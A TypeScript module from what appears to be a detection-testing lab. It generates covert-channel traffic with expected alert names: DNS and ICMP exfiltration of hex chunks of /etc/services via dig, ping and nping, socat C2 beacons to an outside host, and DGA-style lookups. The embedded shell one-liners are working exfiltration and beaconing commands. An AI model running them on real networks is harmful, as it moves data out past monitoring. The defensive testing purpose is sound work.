/** Data and orders that hide in other traffic, by programs that are on every machine, to a host outside. */
import type { Host, Site } from '../site.ts';
import type { Attack, Plan } from './attack.ts';

type Script = { host: Host; line: string };
const words = 'river stone apple great summer house paper light water green never cloud table front night';

function plan(site: Site, scripts: readonly Script[], seconds: number, [attacker, victim]: readonly [Host, Host]): Plan {
  return {
    jobs: scripts.map(({ host, line }) => ({ host, argv: ['timeout', String(seconds), 'bash', '-c', line] })),
    attackers: [site.address(attacker)],
    victims: [site.address(victim)],
    seconds: seconds + 1,
  };
}

/** A file in pieces, one by each run of `commandOf` (`$piece` in hexadecimal, so many bytes), `rate` a second. */
function pieces(name: string, alert: string, tool: string, bytes: number, toHost: Host, commandOf: (site: Site) => string): Attack {
  return {
    class: name,
    alerts: [alert],
    technique: 'T1048.003',
    tool,
    needs: [tool, 'xxd'],
    speeds: { fast: [4, 10], medium: [0.8, 1.5], slow: [0.3, 0.5] },
    plan(site, rate) {
      const line = `xxd -p -c ${bytes} /etc/services | head -40 | while read piece; do ${commandOf(site)} > /dev/null 2>&1 & sleep ${(1 / rate).toFixed(2)}; done; wait`;
      return plan(site, [{ host: 'evil', line }], Math.ceil(Math.min(90, 40 / rate)) + 4, ['evil', toHost]);
    },
  };
}

/** Words by a timer to `outside`, which repeats them, in one connection: `address` in socat's words, without the port. */
function beat(name: string, address: (site: Site) => string, listen: string): Attack {
  return {
    class: name,
    alerts: ['c2.beacon'],
    technique: 'T1071',
    tool: 'socat',
    needs: ['socat'],
    speeds: { fast: [0.3, 0.33], medium: [0.15, 0.2] },
    plan(site, rate) {
      const port = site.random.whole(20_000, 30_000);
      const percent = site.random.pick([0, 30, 50]);
      const wait = `sleep $(awk -v r=$RANDOM 'BEGIN { print ${(1 / rate).toFixed(2)} * (1 + (r / 16384 - 1) * ${percent} / 100) }')`;
      const line = `sleep 1; for i in $(seq 100 113); do echo "beat $i"; ${wait}; done | socat -T 30 - ${address(site).replace('PORT', String(port))}`;
      const scripts: Script[] = [
        { host: 'outside', line: `socat ${listen.replace('PORT', String(port))} EXEC:cat` },
        { host: 'evil', line },
      ];
      return plan(site, scripts, Math.ceil(16 / rate), ['outside', 'evil']);
    },
  };
}

export const covert: readonly Attack[] = [
  ...['A', 'AAAA', 'TXT', 'NULL', 'CNAME', 'MX'].map((type) =>
    pieces(`dns-exfiltration.${type.toLowerCase()}`, 'dns.tunnel', 'dig', 20, 'infra', (site) => {
      return `dig +tries=1 +time=1 @${site.address('infra')} $piece.x.example.test ${type}`;
    }),
  ),
  pieces(
    'icmp-exfiltration.pattern',
    'c2.icmp-tunnel',
    'ping',
    16,
    'outside',
    (site) => `ping -c 1 -W 1 -p $piece ${site.address('outside')}`,
  ),
  pieces(
    'icmp-exfiltration.data',
    'c2.icmp-tunnel',
    'nping',
    13,
    'outside',
    (site) => `nping --icmp -c 1 --data $piece ${site.address('outside')}`,
  ),
  pieces(
    'icmp-exfiltration.time',
    'c2.icmp-tunnel',
    'nping',
    4,
    'outside',
    (site) => `nping --icmp --icmp-type timestamp --icmp-orig-time $((16#$piece)) -c 1 ${site.address('outside')}`,
  ),
  beat('beacon.connection', (site) => `TCP:${site.address('outside')}:PORT`, 'TCP-LISTEN:PORT,fork,reuseaddr'),
  beat('beacon.udp-port', (site) => `UDP:${site.address('outside')}:PORT,sourceport=40111`, 'UDP-LISTEN:PORT,fork,reuseaddr'),
  {
    class: 'dga.words',
    alerts: ['dns.dga'],
    technique: 'T1568.002',
    tool: 'dig',
    needs: ['dig'],
    speeds: { fast: [4, 10], medium: [0.8, 1.5] },
    plan(site, rate) {
      const list = site.random.shuffled(words.split(' '));
      const names = list.flatMap((first) => list.slice(0, 3).map((second) => `${first}${second}.test`));
      const line = `for name in ${names.join(' ')}; do dig +tries=1 +time=1 @${site.address('infra')} $name > /dev/null; sleep ${(1 / rate).toFixed(2)}; done`;
      return plan(site, [{ host: 'evil', line }], Math.ceil(50 / rate) + 4, ['evil', 'infra']);
    },
  },
];
